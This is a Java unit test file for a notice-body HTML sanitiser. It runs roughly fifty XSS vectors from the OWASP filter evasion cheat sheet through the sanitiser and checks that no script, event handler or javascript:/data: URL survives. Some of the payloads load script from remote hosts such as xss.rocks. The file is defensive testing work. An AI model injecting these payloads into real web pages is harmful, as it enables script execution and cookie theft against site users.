package org.chamberlink.notice;

import java.util.List;
import java.util.Locale;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The notice body's sanitiser against the OWASP XSS filter evasion cheat sheet's vectors: nothing
 * that runs survives — no script element, no event handler, no javascript:, vbscript: or data: URL,
 * no SVG, no style, no frame, object, embed, form, base or meta — while the safe subset does.
 */
class NoticeHtmlTest {

	static List<String> vectors() {
		return List.of("<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
				"<script>alert('XSS')</script>", "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
				"<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=javascript:alert('XSS')>", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
				"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
				"<a onmouseover=alert(document.cookie)>xxs link</a>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
				"<IMG SRC=# onmouseover=\"alert('xxs')\">", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
				"<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
				"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">Click Me!</a>",
				"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>",
				"<a href=\"jav\tascript:alert('XSS');\">x</a>", "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
				"<a href=\" &#14;  javascript:alert('XSS');\">x</a>", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
				"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
				"<SCRIPT SRC=http://xss.rocks/xss.js?< B >", "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
				"</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
				"<BODY BACKGROUND=\"javascript:alert('XSS')\">", "<IMG DYNSRC=\"javascript:alert('XSS')\">",
				"<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
				"<svg/onload=alert('XSS')>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)><p>x</p></svg>",
				"<BODY ONLOAD=alert('XSS')>", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
				"<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
				"<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
				"<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>", "<BASE HREF=\"javascript:alert('XSS');//\">",
				"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
				"<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
				"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
				"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"vbscript:msgbox('XSS')\">x</a>",
				"<form action=\"javascript:alert(1)\"><button>x</button></form>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
				"<details open ontoggle=alert(1)>", "<p style=\"x:expression(alert(1))\" onclick=\"alert(1)\">x</p>",
				"<a href=\"javascript&colon;alert(1)\">x</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
				"<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<xss onafterscriptexecute=alert(1)><script>1</script>",
				"<a href=\"  JAVASCRIPT:alert(1)\">x</a>", "<link rel=stylesheet href=\"javascript:alert(1)\">");
	}

	@ParameterizedTest
	@MethodSource("vectors")
	void nothingThatRunsSurvives(String vector) {
		String clean = NoticeHtml.sanitize("<p>通知正文</p>" + vector).toLowerCase(Locale.ROOT);
		assertThat(clean).doesNotContain("<script", "<svg", "<style", "<iframe", "<frame", "<object", "<embed", "<base", "<meta",
				"<img", "<form", "<input", "<link", "<math", "<details", "<body", "javascript:", "vbscript:", "data:", "expression(",
				"style=");
		assertThat(clean).doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=");
		assertThat(clean).startsWith("<p>通知正文</p>");
	}

	@Test
	void theSafeSubsetStays() {
		String body = "<h3>关于报送统计表的通知</h3><p><b>各商会</b>：请于<em>月底</em>前报送。</p><ul><li>一</li><li>二</li></ul>"
				+ "<table><tbody><tr><td>甲</td></tr></tbody></table><p><a href=\"https://www.example.org/policy\">政策原文</a></p>";
		String clean = NoticeHtml.sanitize(body);
		assertThat(clean).contains("<h3>关于报送统计表的通知</h3>", "<b>各商会</b>", "<em>月底</em>", "<li>一</li>", "<td>甲</td>",
				"href=\"https://www.example.org/policy\"");
		// the sanitiser writes the three rels in an order of its own (it differs between class paths)
		java.util.regex.Matcher rel = java.util.regex.Pattern.compile("rel=\"([^\"]+)\"").matcher(clean);
		assertThat(rel.find()).isTrue();
		assertThat(rel.group(1).split(" ")).containsExactlyInAnyOrder("nofollow", "noopener", "noreferrer");
		assertThat(NoticeHtml.text(clean)).contains("关于报送统计表的通知", "各商会：请于月底前报送。").doesNotContain("<");
	}

}
